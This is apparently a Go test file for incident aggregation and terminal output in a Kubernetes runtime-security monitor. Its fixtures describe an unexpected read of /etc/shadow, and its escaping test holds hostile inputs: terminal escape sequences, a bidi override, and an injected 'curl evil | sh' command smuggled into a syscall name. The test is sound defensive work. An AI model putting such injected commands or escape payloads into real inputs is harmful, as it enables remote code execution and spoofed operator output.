package fleet

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"bobwatch/internal/alert"
	"bobwatch/internal/allowance"
	"bobwatch/internal/profile"
	"bobwatch/internal/rule"
	"bobwatch/internal/severity"
	"bobwatch/internal/term"
)

// deviation is an alert of a node as it stands in a log.
func deviation(fingerprint, node, pod string, count uint64, first, last int) alert.Alert {
	a := alert.Alert{
		Fingerprint: fingerprint, Rule: rule.UnexpectedFileAccess, Severity: severity.High, Message: "unexpected read of /etc/shadow by cat",
		Count: count, First: testNow.Add(time.Duration(first) * time.Second), Last: testNow.Add(time.Duration(last) * time.Second),
		Node: node,
	}
	a.Workload = alert.Workload{Namespace: "shop", Kind: "Deployment", Name: "webapp"}
	a.Pod.Name = pod
	a.Allow = &alert.Allowance{
		Workload:  profile.Workload{Namespace: "shop", Kind: "Deployment", Name: "webapp"},
		Container: profile.Container{Name: "web", Opens: []profile.Open{{Path: "/etc/shadow", Flags: []string{"O_RDONLY"}}}},
	}
	return a
}

// Repeats carry sums and are not added; nodes, and runs of an agent, are.
func TestIncidents(t *testing.T) {
	all := NewIncidents()
	for _, a := range []alert.Alert{
		deviation("f1", "node1", "webapp-a", 1, 10, 10),
		deviation("f1", "node1", "webapp-a", 25, 10, 60),
		deviation("f1", "node2", "webapp-b", 3, 5, 70),
		deviation("f2", "node2", "webapp-b", 1, 20, 20),
		deviation("f1", "node2", "webapp-c", 2, 80, 90), // after a restart
		deviation("f1", "node1", "webapp-a", 24, 10, 59),
	} {
		all.Add(&a)
	}
	var got []string
	for _, i := range all.Sorted() {
		r := i.Result()
		got = append(got, fmt.Sprint(r.Fingerprint, " ", r.Count, " ", r.First.Sub(testNow), " ", r.Last.Sub(testNow), " ", r.Nodes, r.Pods))
	}
	want := []string{
		"f2 1 20s 20s [node2] [webapp-b]",
		"f1 30 5s 1m30s [node1 node2] [webapp-a webapp-b webapp-c]",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("incidents (-want +got):\n%s", diff)
	}
}

// A milder form of a known incident counts, and does not cover for it.
func TestIncidentKeepsTheWorst(t *testing.T) {
	all := NewIncidents()
	worst, mild := deviation("f", "n", "", 1, 1, 1), deviation("f", "n", "", 2, 1, 2)
	worst.Severity, worst.Message = severity.Critical, "worst"
	all.Add(&worst)
	i, fresh := all.Add(&mild)
	if r := i.Result(); fresh || r.Message != "worst" || r.Count != 2 || !r.Last.Equal(mild.Last) {
		t.Errorf("got %+v, want the worst, with the count and time of the newest", r)
	}
}

func TestIncidentsAreBounded(t *testing.T) {
	all := NewIncidents()
	for n := range maxIncidents + 10 {
		a := deviation(fmt.Sprint(n), "node", "", 1, n, n)
		all.Add(&a)
	}
	sorted := all.Sorted()
	if len(sorted) != maxIncidents || sorted[0].last.Fingerprint != "10" {
		t.Errorf("%d incidents from %s on, want %d from 10 on", len(sorted), sorted[0].last.Fingerprint, maxIncidents)
	}
	for n := range maxPlaces + 10 {
		a := deviation("f", fmt.Sprint("node", n), fmt.Sprint("pod", n), 1, n, n)
		i, _ := all.Add(&a)
		if r := i.Result(); len(r.Nodes) > maxPlaces || len(r.Pods) > maxPlaces || len(i.counts) > maxPlaces {
			t.Fatalf("%d nodes, %d pods", len(r.Nodes), len(r.Pods))
		}
	}
}

// What a log holds is not believed to be printable, and a line to paste has to
// be an allow command.
func TestIncidentText(t *testing.T) {
	plain := deviation("f", "node1", "webapp-a", 25, -60, 0)
	hostile := plain
	hostile.Message, hostile.Node, hostile.Pod.Name = "m\x1b[2J\n12:00:00 LOW", "n\x1b]0;x\a", "p\r"
	hostile.Workload.Name, hostile.Process.PID, hostile.Process.Comm = "w\u202e", 1, "c\x9b"
	hostile.Ancestors = []alert.Process{{Comm: "a\x00"}}
	pasted := plain
	pasted.Allow = &alert.Allowance{Container: profile.Container{Syscalls: map[string][]string{"386": {"dup; curl evil | sh\x1b[2J"}}}}
	for name, tt := range map[string]struct {
		alert alert.Alert
		lines int
		want  string
	}{
		"plain":   {plain, 3, "25 times"},
		"hostile": {hostile, 3, `m\u001b[2J\u000a12:00:00 LOW`},
		"pasted":  {pasted, 3, `--syscall $'dup; curl evil | sh\033[2J'`},
	} {
		t.Run(name, func(t *testing.T) {
			i, _ := NewIncidents().Add(&tt.alert)
			text := Text((&term.Terminal{}), i, true, testNow)
			if term.EscapeLines(text) != text || strings.Count(text, "\n") != tt.lines || !strings.Contains(text, tt.want) {
				t.Errorf("got %q, want %d printable lines with %q", text, tt.lines, tt.want)
			}
			var out bytes.Buffer
			if err := term.JSON.Line(&out, i.Result()); err != nil {
				t.Fatal(err)
			}
			var again IncidentResult
			if err := json.Unmarshal(out.Bytes(), &again); err != nil || again.Message != tt.alert.Message || strings.Count(out.String(), "\n") != 1 {
				t.Errorf("JSON is %q (%v), want one line that holds the alert", out.String(), err)
			}
			if _, err := allowance.ParseAlert(out.Bytes()); err != nil {
				t.Errorf("bobctl allow --alert does not read it: %v", err)
			}
		})
	}
	i, _ := NewIncidents().Add(&plain)
	if text := Text((&term.Terminal{}), i, false, testNow); strings.Contains(text, "bobctl allow") {
		t.Errorf("told again with the command: %s", text)
	}
}
